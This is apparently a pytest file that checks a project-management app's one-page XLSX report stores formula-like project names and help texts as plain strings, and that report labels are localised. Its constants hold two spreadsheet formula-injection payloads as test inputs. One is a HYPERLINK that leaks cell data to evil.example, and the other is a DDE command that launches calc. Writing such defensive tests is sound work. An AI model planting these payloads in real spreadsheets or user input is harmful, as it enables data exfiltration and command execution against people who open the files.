"""The one-page XLSX stores names and texts typed as formulas as text, never as formulas."""

import io

from openpyxl import load_workbook

from pmo.portfolio import services
from pmo.portfolio.models import Project
from pmo.reports.tests.test_onepage import history

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HELP = "+cmd|' /C calc'!A0"


def test_onepage_xlsx_holds_formula_like_text_as_string_cells(client, users, make_project):
    # given a project (not strategic) a PM renamed like a formula, asking for help like one
    project = make_project(code="INJ1", manager=users["pm"].person)
    services.update_project(
        actor=users["pm"], project=project, data={"name": ATTACK}, version=project.version
    )
    history(
        project, ("2026-W46", 3, "execution", None, {"help_needed": HELP, "percent_complete": 40})
    )
    # when the one-page report of all projects is downloaded as XLSX
    client.force_login(users["exec"])
    response = client.get("/reports/onepage.xlsx", {"scope": "all", "period": "2026-W46"})
    wb = load_workbook(io.BytesIO(response.content))
    # then the name and the text are string cells holding exactly what was typed
    projects = {row[0].value: row for row in wb["Projects"].iter_rows(min_row=2)}
    name = projects["INJ1"][1]
    assert (name.value, name.data_type) == (ATTACK, "s")
    escalation = next(r for r in wb["Escalations"].iter_rows(min_row=2) if r[0].value == "INJ1")
    assert [(c.value, c.data_type) for c in (escalation[1], escalation[3])] == [
        (ATTACK, "s"),
        (HELP, "s"),
    ]
    assert escalation[2].value == "Help needed"  # its kind in words, not the code "help"
    # and figures stay numbers
    percent = projects["INJ1"][13]
    assert (percent.value, percent.data_type) == (40, "n")
    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)


def test_onepage_xlsx_names_kinds_in_the_readers_language(client, users, make_project):
    make_project(code="ZHK1", manager=users["pm"].person)
    history(
        Project.objects.get(code="ZHK1"),
        ("2026-W45", 1, "execution", None, {"percent_complete": 30}),
        ("2026-W46", 3, "execution", None, {"help_needed": "需要支持", "percent_complete": 40}),
    )
    users["exec"].language = "zh-hans"
    users["exec"].save()
    client.force_login(users["exec"])
    response = client.get("/reports/onepage.xlsx", {"scope": "all", "period": "2026-W46"})
    wb = load_workbook(io.BytesIO(response.content))
    kinds = {r[2].value for r in wb.worksheets[2].iter_rows(min_row=2) if r[0].value == "ZHK1"}
    changes = {r[2].value for r in wb.worksheets[3].iter_rows(min_row=2) if r[0].value == "ZHK1"}
    assert kinds == {"需要支持"}
    assert "新增红灯" in changes and "new_red" not in changes
